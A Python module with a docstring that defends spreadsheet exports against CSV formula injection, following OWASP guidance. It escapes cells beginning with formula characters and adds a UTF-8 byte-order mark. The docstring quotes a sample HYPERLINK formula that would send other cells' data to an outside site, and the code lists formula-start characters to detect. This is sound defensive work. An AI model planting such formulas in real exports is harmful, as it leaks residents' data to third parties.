"""Exports are data, never formulas: the one rule every CSV or spreadsheet export follows.

A resident can write a proposal such as `=HYPERLINK("https://example.org/?d="&A2,"Open")`.
A spreadsheet that opens an export holding it unchanged treats it as a live formula, and one
click sends other cells (other residents' texts and ids) to an outside site. OWASP's guidance
("CSV Injection", owasp.org/www-community/attacks/CSV_Injection): a cell that begins with
`=`, `+`, `-`, `@`, a tab (0x09) or a carriage return (0x0D) is prefixed with a single quote,
so that spreadsheets show it as text. The csv module already quotes cells holding the
separator or quotes. Plain numbers ("-3", "+1.5") are numbers, not formulas, and are kept.

CSV is written as UTF-8 with a byte-order mark: without it, spreadsheets on Windows read the
file in the local code page and garble Cyrillic and Armenian.

Use `safe_cell`/`safe_row` for any cell written anywhere (CSV today, XLSX and the web panel
later: openpyxl, too, takes a string that starts with "=" for a formula), and `csv_writer`
for CSV.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

# The full-width forms (＝ ＋ － ＠) too: some spreadsheets read them as their ASCII twins.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM = "\ufeff"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value a cell may hold: a string that a spreadsheet would run gets a leading "'";
    numbers, None and other strings are returned as they are."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class SafeWriter:
    """csv.writer's `writerow`, every cell through `safe_cell`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(row))


def csv_writer(out: TextIO) -> SafeWriter:
    """A CSV writer for an export: writes the byte-order mark first (`out` is a text stream
    encoded as UTF-8, opened with newline=""), then neutralised rows."""
    out.write(BOM)
    return SafeWriter(out)
